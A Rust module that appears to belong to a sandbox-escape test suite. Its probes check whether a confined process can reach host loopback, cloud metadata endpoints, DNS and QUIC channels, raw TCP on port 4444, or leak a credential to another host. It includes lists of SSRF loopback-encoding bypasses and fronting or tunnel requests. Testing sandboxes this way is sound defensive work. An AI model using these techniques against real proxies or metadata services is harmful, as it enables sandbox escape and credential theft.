//! Attempts to be heard outside: by the loopback interface, by our own proxy, past it. Each brings back the planted
//! word, which only sockets outside say, or has not got out.

use crate::escape::check::{Finding, words};
use crate::escape::facts::Facts;
use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream, ToSocketAddrs, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::UnixStream;
use std::time::Duration;

const PATIENCE: Duration = Duration::from_secs(3);
/// The host answers at once; a sandbox never.
const DATAGRAM_PATIENCE: Duration = Duration::from_millis(800);
/// An address that nobody has (RFC 5737). In a world of our own, we answer there.
const NOBODY: &str = "192.0.2.1";
const METADATA: &str = "169.254.169.254";
const RAW_PORT: u16 = 4444;

/// Where a world of our own has to answer.
pub(crate) const TCP_PORTS: &[u16] = &[80, RAW_PORT];
pub(crate) const UDP_PORTS: &[u16] = &[53, 443];

/// Says something and looks for the word in what comes back.
fn talk(mut stream: TcpStream, facts: &Facts, say: &[u8]) -> io::Result<bool> {
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.write_all(say)?;
    let mut heard = Vec::new();
    let mut part = [0; 4096];
    loop {
        match stream.read(&mut part) {
            Ok(0) => return Ok(facts.finds(&heard)),
            Ok(count) => heard.extend_from_slice(&part[..count]),
            Err(error) => return if facts.finds(&heard) { Ok(true) } else { Err(error) },
        }
        if facts.finds(&heard) || heard.len() > 1 << 20 {
            return Ok(facts.finds(&heard));
        }
    }
}

fn judged(to: &str, heard: io::Result<bool>) -> Finding {
    match heard {
        Ok(true) => Finding::open(format!("{to} answered")),
        Ok(false) => Finding::blocked("no answer of the host's"),
        Err(error) if error.kind() == io::ErrorKind::WouldBlock => Finding::blocked("no answer"),
        Err(error) => Finding::blocked(words(&error)),
    }
}

fn tcp(facts: &Facts, to: &str, say: &[u8]) -> Finding {
    let connect = |address: SocketAddr| TcpStream::connect_timeout(&address, PATIENCE);
    let address =
        to.to_socket_addrs().and_then(|mut found| found.next().ok_or_else(|| io::ErrorKind::NotFound.into()));
    judged(to, address.and_then(connect).and_then(|stream| talk(stream, facts, say)))
}

fn udp(facts: &Facts, to: &str, say: &[u8]) -> Finding {
    let mut heard = [0; 2048];
    let answered = UdpSocket::bind("0.0.0.0:0").and_then(|socket| {
        socket.set_read_timeout(Some(DATAGRAM_PATIENCE))?;
        // Not connected: whoever answers is heard.
        socket.send_to(say, to)?;
        let (count, _) = socket.recv_from(&mut heard)?;
        Ok(facts.finds(&heard[..count]))
    });
    judged(to, answered)
}

/// By the proxy that we are told of; where there is none, straight to what the proxy would lead to.
fn by_proxy(facts: &Facts, request: &str) -> Finding {
    let proxy =
        std::env::var("http_proxy").ok().and_then(|url| Some(url.strip_prefix("http://")?.to_owned()));
    tcp(facts, &proxy.unwrap_or_else(|| format!("127.0.0.1:{}", facts.tcp)), request.as_bytes())
}

fn get(host: &str, path: &str, header: &str) -> String {
    format!("GET http://{host}{path} HTTP/1.1\r\nhost: {host}\r\n{header}connection: close\r\n\r\n")
}

/// Not an attempt: a request that is allowed. Where it is not answered, a refusal of others shows nothing.
pub(crate) fn allowed_road(facts: &Facts) -> Finding {
    by_proxy(facts, &get("other.example", "/", ""))
}

pub(crate) fn host_loopback(facts: &Facts) -> Finding {
    let say = get("localhost", "/", "");
    let v4 = ["127.0.0.1", "127.9.9.9", "0.0.0.0"].map(|host| format!("{host}:{}", facts.tcp));
    let v6 = facts.tcp6.map(|port| format!("[::1]:{port}"));
    let mapped = format!("[::ffff:127.0.0.1]:{}", facts.tcp);
    let all = v4.into_iter().chain(v6).chain([mapped]);
    Finding::any(all.map(|to| tcp(facts, &to, say.as_bytes())))
}

/// The proxy serves us from the host: it must not be a way to what listens there.
pub(crate) fn loopback_by_proxy(facts: &Facts) -> Finding {
    let port = facts.tcp;
    let hosts =
        ["127.0.0.1", "localhost", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f.1", "127.1", "0.0.0.0"];
    let gets = hosts.map(|host| get(&format!("{host}:{port}"), "/", ""));
    let tunnel =
        format!("CONNECT 127.0.0.1:{port} HTTP/1.1\r\nhost: 127.0.0.1:{port}\r\n\r\nGET / HTTP/1.0\r\n\r\n");
    let fronted =
        format!("GET http://127.0.0.1:{port}/ HTTP/1.1\r\nhost: other.example\r\nconnection: close\r\n\r\n");
    Finding::any(gets.into_iter().chain([tunnel, fronted]).map(|request| by_proxy(facts, &request)))
}

pub(crate) fn abstract_socket(facts: &Facts) -> Finding {
    let address = std::os::unix::net::SocketAddr::from_abstract_name(&facts.abstract_socket);
    let heard = address.and_then(|at| UnixStream::connect_addr(&at)).and_then(|mut stream| {
        stream.set_read_timeout(Some(PATIENCE))?;
        let mut heard = Vec::new();
        stream.read_to_end(&mut heard)?;
        Ok(facts.finds(&heard))
    });
    judged("the abstract socket", heard)
}

/// By the proxy, and straight, as clients do that ignore it.
pub(crate) fn metadata(facts: &Facts) -> Finding {
    let path = "/latest/meta-data/";
    let straight = format!("GET {path} HTTP/1.1\r\nhost: {METADATA}\r\nconnection: close\r\n\r\n");
    let mut ways = vec![tcp(facts, &format!("{METADATA}:80"), straight.as_bytes())];
    if std::env::var_os("http_proxy").is_some() {
        let hosts = [
            METADATA,
            "metadata.google.internal",
            "[fd00:ec2::254]",
            "2852039166",
            "[::ffff:169.254.169.254]",
        ];
        ways.extend(hosts.map(|host| match by_proxy(facts, &get(host, path, "")) {
            // An answer that is not ours would be a real one: told by its status.
            blocked if !blocked.open && passes(&get(host, path, "")) => {
                Finding::open(format!("{host} answered"))
            }
            other => other,
        }));
    }
    Finding::any(ways)
}

/// Whether the proxy lets a request through, whoever answers it.
fn passes(request: &str) -> bool {
    let Some(proxy) =
        std::env::var("http_proxy").ok().and_then(|url| Some(url.strip_prefix("http://")?.to_owned()))
    else {
        return false;
    };
    let asked = TcpStream::connect(proxy).and_then(|mut stream| {
        stream.set_read_timeout(Some(PATIENCE))?;
        stream.write_all(request.as_bytes())?;
        let mut status = [0; 12];
        stream.read_exact(&mut status)?;
        Ok(status)
    });
    asked.is_ok_and(|status| status.ends_with(b"200"))
}

/// A question whose name carries something, of the kind whose answer does too.
fn question(facts: &Facts, kind: u8) -> Vec<u8> {
    let mut bytes = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in [facts.backwards.as_str(), "tunnel", "example"] {
        bytes.push(label.len() as u8);
        bytes.extend_from_slice(label.as_bytes());
    }
    bytes.extend_from_slice(&[0, 0, kind, 0, 1]);
    bytes
}

pub(crate) fn dns(facts: &Facts) -> Finding {
    const TXT: u8 = 16;
    const A: u8 = 1;
    let ours = "127.0.0.1:53".to_owned();
    let asked = [(format!("{NOBODY}:53"), TXT), (ours.clone(), TXT), (ours, A)];
    let asked = asked.into_iter().chain([(format!("127.0.0.1:{}", facts.udp), TXT)]);
    Finding::any(asked.map(|(server, kind)| udp(facts, &server, &question(facts, kind))))
}

/// The beginning of a QUIC connection, as far as who carries it looks.
pub(crate) fn quic(facts: &Facts) -> Finding {
    let mut hello = vec![0xc3, 0, 0, 0, 1, 8, 1, 2, 3, 4, 5, 6, 7, 8, 0, 0];
    hello.resize(1200, 0);
    Finding::any(
        [format!("{NOBODY}:443"), format!("127.0.0.1:{}", facts.udp)].map(|to| udp(facts, &to, &hello)),
    )
}

/// Something that is neither HTTP nor TLS: straight, and in a tunnel to a host that is allowed.
pub(crate) fn raw_tcp(facts: &Facts) -> Finding {
    let mut ways = vec![tcp(facts, &format!("{NOBODY}:{RAW_PORT}"), b"\x00\x01hello\n")];
    if std::env::var_os("http_proxy").is_some() {
        let head = "CONNECT other.example:4444 HTTP/1.1\r\nhost: other.example:4444\r\n\r\n";
        ways.push(by_proxy(facts, &format!("{head}\u{1}hello\n")));
    }
    Finding::any(ways)
}

/// A name that the tunnel goes to, and another in the request inside it.
pub(crate) fn fronting(facts: &Facts) -> Finding {
    let request = "GET http://own.example/ HTTP/1.1\r\nhost: other.example\r\nconnection: close\r\n\r\n";
    by_proxy(facts, request)
}

/// The session's placeholder, sent to a host that is allowed and is not the credential's.
pub(crate) fn placeholder_elsewhere(facts: &Facts) -> Finding {
    let key = std::env::var(&facts.credential).unwrap_or_else(|_| "sk_live_a_key".into());
    Finding::any([
        by_proxy(facts, &get("other.example", "/", &format!("authorization: Bearer {key}\r\n"))),
        by_proxy(facts, &get("other.example", &format!("/?k={key}"), "")),
    ])
}

/// The same at the credential's own host, where it may not stand: it would come back in an error page.
pub(crate) fn placeholder_in_place(facts: &Facts) -> Finding {
    let key = std::env::var(&facts.credential).unwrap_or_else(|_| "sk_live_a_key".into());
    by_proxy(facts, &get("own.example", &format!("/{key}"), ""))
}

/// An interface that leads anywhere.
pub(crate) fn interfaces(_: &Facts) -> Finding {
    let text = std::fs::read_to_string("/proc/net/dev").unwrap_or_default();
    let names = text.lines().skip(2).filter_map(|line| Some(line.split_once(':')?.0.trim()));
    match names.into_iter().find(|name| *name != "lo") {
        Some(name) => Finding::open(format!("there is an interface {name}")),
        None => Finding::blocked("no interface but loopback"),
    }
}

/// A datagram to a socket of the host's.
pub(crate) fn datagram(facts: &Facts) -> Finding {
    udp(facts, &format!("127.0.0.1:{}", facts.udp), b"hello")
}
